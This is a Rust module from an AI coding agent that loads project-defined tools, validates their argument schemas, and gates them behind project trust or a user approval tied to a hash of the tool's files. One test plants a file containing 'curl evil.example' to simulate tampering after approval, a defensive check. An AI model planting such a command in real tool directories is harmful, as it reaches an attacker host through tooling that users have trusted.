//! Tools the agent wrote for a project: `.jig/tools/NAME/tool.json` (name,
//! description, the JSON Schema of the arguments, the command that
//! implements it) and any files beside it (the script). The model proposes
//! one with `create_tool` ([`crate::create_tool`]); once a person approves
//! it, it is offered from the next model request like a built-in, in every
//! dialect, and it persists for the project.
//!
//! A call runs the tool's `command` with `bash -lc` in the workspace, through
//! [`crate::shell::run_command`] — so in the session's sandbox, under the
//! exec policy and approvals like any shell command ([`ProjectTool`]'s
//! `preview` is the command) — with the arguments as JSON in
//! `JIG_TOOL_ARGS` and the tool's directory in `JIG_TOOL_DIR`.
//!
//! Trust: `.jig/tools/` arrives with a cloned repository, and a tool's
//! description steers the model. A tool is offered only when its project is
//! trusted or when this user approved exactly this content: approving a
//! creation records the hash of the tool's files in the user's own approval
//! list ([`Approvals`], under `$JIG_HOME`, never in the repository). A tool
//! whose files changed since is left out with a warning until approved or
//! trusted again.
//!
//! Schemas: a proposal's schema must be an object schema whose properties
//! each name a JSON type (or an `enum`); arguments are checked against that
//! subset (required properties, top-level types, enums, no unknown
//! properties when `additionalProperties` is false) before the command runs.
//! Hand-written on purpose: the `jsonschema` crate would bring its regex,
//! URL and format machinery for the few rules tool schemas use.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::time::Duration;

use jig_protocol::{ToolFormat, ToolSpec};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::shell::{CommandLine, CommandSpec, run_command};
use crate::{CommandPreview, Tool, ToolContext, ToolError, ToolResult};

/// Where a project's tools live, under the workspace.
pub const TOOLS_DIR: &str = ".jig/tools";

/// The file that declares a tool, in its directory.
pub const TOOL_FILE: &str = "tool.json";

/// How long a project tool's command may run.
pub const TIMEOUT: Duration = Duration::from_secs(600);

/// Bytes kept of each of a run's stdout and stderr.
const MAX_OUTPUT_BYTES: usize = 32 * 1024;

/// `tool.json`: a tool as declared on disk.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ToolDecl {
    /// The name offered to the model.
    pub name: String,
    /// What the tool does, for the model.
    pub description: String,
    /// JSON Schema of the arguments: an object schema.
    pub parameters: Value,
    /// The command that implements it, run with `bash -lc` in the workspace.
    pub command: String,
}

/// Whether `name` can be a tool's name: a letter, then letters, digits,
/// `_` or `-`, at most 64 in all (every provider accepts that).
pub fn valid_name(name: &str) -> bool {
    let mut chars = name.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && name.len() <= 64
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

/// The JSON types a property may name.
const TYPES: [&str; 7] = ["string", "number", "integer", "boolean", "array", "object", "null"];

/// What is wrong with `schema` as a tool's arguments schema, if anything.
pub fn schema_problem(schema: &Value) -> Option<String> {
    let Some(object) = schema.as_object() else {
        return Some("`parameters` must be a JSON Schema object like {\"type\":\"object\",\"properties\":{…}}".into());
    };
    if object.get("type").and_then(Value::as_str) != Some("object") {
        return Some("`parameters` must have \"type\": \"object\" (a tool takes an object of named arguments)".into());
    }
    let properties = match object.get("properties") {
        None => return Some("`parameters` needs \"properties\": an object naming each argument".into()),
        Some(Value::Object(properties)) => properties,
        Some(_) => return Some("`parameters.properties` must be an object of argument schemas".into()),
    };
    for (name, property) in properties {
        let Some(property) = property.as_object() else {
            return Some(format!("the schema of argument `{name}` must be an object"));
        };
        let typed = match property.get("type") {
            Some(Value::String(t)) => TYPES.contains(&t.as_str()),
            Some(Value::Array(ts)) => {
                !ts.is_empty() && ts.iter().all(|t| t.as_str().is_some_and(|t| TYPES.contains(&t)))
            }
            Some(_) => false,
            None => property.get("enum").is_some_and(Value::is_array),
        };
        if !typed {
            return Some(format!(
                "argument `{name}` needs a \"type\" ({}) or an \"enum\"",
                TYPES.join(", ")
            ));
        }
    }
    match object.get("required") {
        None => None,
        Some(Value::Array(required)) => required.iter().find_map(|r| match r.as_str() {
            Some(r) if properties.contains_key(r) => None,
            Some(r) => Some(format!("`required` names `{r}`, which is not in `properties`")),
            None => Some("`required` must list argument names (strings)".into()),
        }),
        Some(_) => Some("`required` must be an array of argument names".into()),
    }
}

/// What is wrong with `args` against `schema` (the subset in the module
/// doc), if anything.
fn args_problem(schema: &Value, args: &Value) -> Option<String> {
    let Some(args) = args.as_object() else {
        return Some("the arguments must be a JSON object".into());
    };
    let properties = schema.get("properties").and_then(Value::as_object);
    let required = schema.get("required").and_then(Value::as_array);
    for name in required.into_iter().flatten().filter_map(Value::as_str) {
        if !args.contains_key(name) {
            return Some(format!("missing required argument `{name}`"));
        }
    }
    let closed = schema.get("additionalProperties") == Some(&Value::Bool(false));
    for (name, value) in args {
        let Some(property) = properties.and_then(|p| p.get(name)) else {
            if closed {
                return Some(format!("unknown argument `{name}`"));
            }
            continue;
        };
        if let Some(options) = property.get("enum").and_then(Value::as_array)
            && !options.contains(value)
        {
            return Some(format!(
                "argument `{name}` must be one of {}",
                Value::Array(options.clone())
            ));
        }
        let types: Vec<&str> = match property.get("type") {
            Some(Value::String(t)) => vec![t.as_str()],
            Some(Value::Array(ts)) => ts.iter().filter_map(Value::as_str).collect(),
            _ => continue,
        };
        if !types.iter().any(|t| is_type(value, t)) {
            return Some(format!("argument `{name}` must be of type {}", types.join(" or ")));
        }
    }
    None
}

fn is_type(value: &Value, json_type: &str) -> bool {
    match json_type {
        "string" => value.is_string(),
        "number" => value.is_number(),
        "integer" => value.is_i64() || value.is_u64(),
        "boolean" => value.is_boolean(),
        "array" => value.is_array(),
        "object" => value.is_object(),
        "null" => value.is_null(),
        _ => false,
    }
}

/// The hash that identifies a tool's content: `tool.json` and every file
/// beside it, by relative path.
pub fn content_hash(dir: &Path) -> std::io::Result<String> {
    let mut files = BTreeMap::new();
    collect(dir, dir, &mut files)?;
    let mut hasher = Sha256::new();
    for (path, bytes) in files {
        hasher.update(path.as_bytes());
        hasher.update([0]);
        hasher.update((bytes.len() as u64).to_le_bytes());
        hasher.update(&bytes);
    }
    Ok(hasher.finalize().iter().map(|b| format!("{b:02x}")).collect())
}

fn collect(root: &Path, dir: &Path, files: &mut BTreeMap<String, Vec<u8>>) -> std::io::Result<()> {
    for entry in std::fs::read_dir(dir)? {
        let entry = entry?;
        let kind = entry.file_type()?;
        let path = entry.path();
        if kind.is_dir() {
            collect(root, &path, files)?;
        } else {
            let rel = path.strip_prefix(root).unwrap_or(&path).to_string_lossy().into_owned();
            // A link is hashed by where it points, never followed.
            let bytes = if kind.is_symlink() {
                std::fs::read_link(&path)?.to_string_lossy().into_owned().into_bytes()
            } else {
                std::fs::read(&path)?
            };
            files.insert(rel, bytes);
        }
    }
    Ok(())
}

/// The tools this user approved, by content hash: a JSON file under
/// `$JIG_HOME`, outside any repository.
#[derive(Debug, Clone)]
pub struct Approvals {
    path: PathBuf,
}

impl Approvals {
    /// The approval list kept at `path` (`$JIG_HOME/tools/approved.json`).
    pub fn at(path: impl Into<PathBuf>) -> Approvals {
        Approvals { path: path.into() }
    }

    fn read(&self) -> BTreeSet<String> {
        std::fs::read_to_string(&self.path)
            .ok()
            .and_then(|text| serde_json::from_str(&text).ok())
            .unwrap_or_default()
    }

    /// Whether content `hash` was approved.
    pub fn approved(&self, hash: &str) -> bool {
        self.read().contains(hash)
    }

    /// Records `hash` as approved (atomically: a temp file and a rename).
    pub fn approve(&self, hash: &str) -> std::io::Result<()> {
        let mut all = self.read();
        all.insert(hash.to_owned());
        if let Some(parent) = self.path.parent() {
            std::fs::create_dir_all(parent)?;
        }
        let temp = self.path.with_extension("json.tmp");
        std::fs::write(&temp, serde_json::to_vec_pretty(&all).map_err(std::io::Error::other)?)?;
        std::fs::rename(&temp, &self.path)
    }
}

/// A tool of the project, loaded from its directory.
#[derive(Debug, Clone)]
pub struct ProjectTool {
    decl: ToolDecl,
    dir: PathBuf,
}

impl ProjectTool {
    /// Reads and checks the tool in `dir`.
    pub fn load(dir: &Path) -> Result<ProjectTool, String> {
        let file = dir.join(TOOL_FILE);
        let text = std::fs::read_to_string(&file).map_err(|e| format!("cannot read {}: {e}", file.display()))?;
        let decl: ToolDecl =
            serde_json::from_str(&text).map_err(|e| format!("{} is not a tool declaration: {e}", file.display()))?;
        if let Some(problem) = decl_problem(&decl) {
            return Err(format!("{}: {problem}", file.display()));
        }
        Ok(ProjectTool {
            decl,
            dir: dir.to_owned(),
        })
    }

    /// The tool's name.
    pub fn name(&self) -> &str {
        &self.decl.name
    }
}

/// What is wrong with a declaration, if anything.
pub fn decl_problem(decl: &ToolDecl) -> Option<String> {
    if !valid_name(&decl.name) {
        return Some(format!(
            "`{}` cannot be a tool name: use a letter, then letters, digits, `_` or `-` (at most 64)",
            decl.name
        ));
    }
    if decl.description.trim().is_empty() {
        return Some("the tool needs a description saying what it does and when to use it".into());
    }
    if decl.command.trim().is_empty() {
        return Some("the tool needs a `command` that implements it".into());
    }
    schema_problem(&decl.parameters)
}

/// The project's tools that may be offered: every valid tool under
/// `workspace/.jig/tools/` whose project is `trusted` or whose content this
/// user approved; with a warning for each tool left out and why.
pub fn load_all(workspace: &Path, trusted: bool, approvals: &Approvals) -> (Vec<ProjectTool>, Vec<String>) {
    let root = workspace.join(TOOLS_DIR);
    let Ok(entries) = std::fs::read_dir(&root) else {
        return (Vec::new(), Vec::new());
    };
    let mut dirs: Vec<PathBuf> = entries
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.is_dir())
        .collect();
    dirs.sort();
    let mut tools = Vec::new();
    let mut warnings = Vec::new();
    for dir in dirs {
        let tool = match ProjectTool::load(&dir) {
            Ok(tool) => tool,
            Err(problem) => {
                warnings.push(format!("warning: project tool left out: {problem}"));
                continue;
            }
        };
        let approved = content_hash(&dir).is_ok_and(|hash| approvals.approved(&hash));
        if trusted || approved {
            tools.push(tool);
        } else {
            warnings.push(format!(
                "warning: project tool `{}` ({}) left out: the project is not trusted and you have not approved \
                 this tool's current files; run `jig trust` in the project to use its tools",
                tool.name(),
                dir.display()
            ));
        }
    }
    (tools, warnings)
}

#[async_trait::async_trait]
impl Tool for ProjectTool {
    fn spec(&self) -> ToolSpec {
        ToolSpec {
            namespace: None,
            format: ToolFormat::Function,
            name: self.decl.name.clone(),
            description: self.decl.description.clone(),
            parameters: self.decl.parameters.clone(),
        }
    }

    fn is_mutating(&self) -> bool {
        // Its command may do anything a shell command may.
        true
    }

    async fn run(&self, ctx: &ToolContext, args: Value) -> Result<ToolResult, ToolError> {
        if let Some(problem) = args_problem(&self.decl.parameters, &args) {
            return Err(ToolError::RespondToModel(format!(
                "invalid arguments for {}: {problem}; check the tool's schema and call it again",
                self.decl.name
            )));
        }
        let env = BTreeMap::from([
            ("JIG_TOOL_ARGS".to_owned(), args.to_string()),
            ("JIG_TOOL_DIR".to_owned(), self.dir.display().to_string()),
        ]);
        let spec = CommandSpec {
            command: CommandLine::Script(self.decl.command.clone()),
            workdir: ctx.cwd.clone(),
            env,
            timeout: TIMEOUT,
            max_output_bytes: MAX_OUTPUT_BYTES,
        };
        let outcome = run_command(ctx, &spec).await?;
        let mut output = outcome.stdout;
        if !outcome.stderr.trim().is_empty() {
            if !output.is_empty() && !output.ends_with('\n') {
                output.push('\n');
            }
            output.push_str(&outcome.stderr);
        }
        let ok = matches!(
            outcome.ending,
            crate::shell::CommandEnding::Exited { code: Some(0), .. }
        );
        if ok {
            Ok(ToolResult::ok(output))
        } else {
            Ok(ToolResult::error(format!(
                "{output}\n({} exited {})",
                self.decl.name,
                outcome.ending.describe()
            )))
        }
    }

    fn preview(&self, _args: &Value) -> Option<CommandPreview> {
        Some(CommandPreview {
            command: CommandLine::Script(self.decl.command.clone()),
            escalation: None,
        })
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn schema() -> Value {
        json!({
            "type": "object",
            "properties": {"path": {"type": "string"}, "mode": {"enum": ["fast", "full"]}, "n": {"type": "integer"}},
            "required": ["path"],
            "additionalProperties": false
        })
    }

    #[test]
    fn a_schema_must_be_an_object_of_typed_properties() {
        assert_eq!(schema_problem(&schema()), None);
        assert!(
            schema_problem(&json!({"type": "string"}))
                .unwrap()
                .contains("\"type\": \"object\"")
        );
        assert!(
            schema_problem(&json!({"type": "object"}))
                .unwrap()
                .contains("properties")
        );
        let untyped = json!({"type": "object", "properties": {"x": {"description": "?"}}});
        assert!(
            schema_problem(&untyped)
                .unwrap()
                .contains("argument `x` needs a \"type\"")
        );
        let wrong = json!({"type": "object", "properties": {"x": {"type": "text"}}});
        assert!(schema_problem(&wrong).is_some());
        let required = json!({"type": "object", "properties": {}, "required": ["y"]});
        assert!(schema_problem(&required).unwrap().contains("`y`"));
    }

    #[test]
    fn arguments_are_checked_against_the_schema() {
        let s = schema();
        assert_eq!(args_problem(&s, &json!({"path": "a", "mode": "fast", "n": 3})), None);
        assert_eq!(
            args_problem(&s, &json!({})).unwrap(),
            "missing required argument `path`"
        );
        assert!(args_problem(&s, &json!({"path": 1})).unwrap().contains("type string"));
        assert!(
            args_problem(&s, &json!({"path": "a", "mode": "slow"}))
                .unwrap()
                .contains("one of")
        );
        assert!(
            args_problem(&s, &json!({"path": "a", "n": 1.5}))
                .unwrap()
                .contains("integer")
        );
        assert_eq!(
            args_problem(&s, &json!({"path": "a", "x": 1})).unwrap(),
            "unknown argument `x`"
        );
    }

    #[test]
    fn names_are_letters_digits_underscores_and_dashes() {
        assert!(valid_name("count_lines"));
        assert!(valid_name("a-1"));
        assert!(!valid_name("1abc"));
        assert!(!valid_name("has space"));
        assert!(!valid_name(""));
        assert!(!valid_name(&"x".repeat(65)));
    }

    #[test]
    fn a_tool_changed_after_approval_is_left_out_of_an_untrusted_project() {
        let ws = tempfile::tempdir().unwrap();
        let home = tempfile::tempdir().unwrap();
        let dir = ws.path().join(TOOLS_DIR).join("hello");
        std::fs::create_dir_all(&dir).unwrap();
        let decl = ToolDecl {
            name: "hello".into(),
            description: "Says hello.".into(),
            parameters: json!({"type": "object", "properties": {}}),
            command: "echo hello".into(),
        };
        std::fs::write(dir.join(TOOL_FILE), serde_json::to_vec(&decl).unwrap()).unwrap();
        let approvals = Approvals::at(home.path().join("tools/approved.json"));
        let (tools, warnings) = load_all(ws.path(), false, &approvals);
        assert!(tools.is_empty());
        assert!(warnings[0].contains("jig trust"), "{warnings:?}");
        approvals.approve(&content_hash(&dir).unwrap()).unwrap();
        assert_eq!(load_all(ws.path(), false, &approvals).0.len(), 1);
        std::fs::write(dir.join("extra.sh"), "curl evil.example").unwrap();
        assert!(load_all(ws.path(), false, &approvals).0.is_empty());
        assert_eq!(load_all(ws.path(), true, &approvals).0.len(), 1);
    }
}
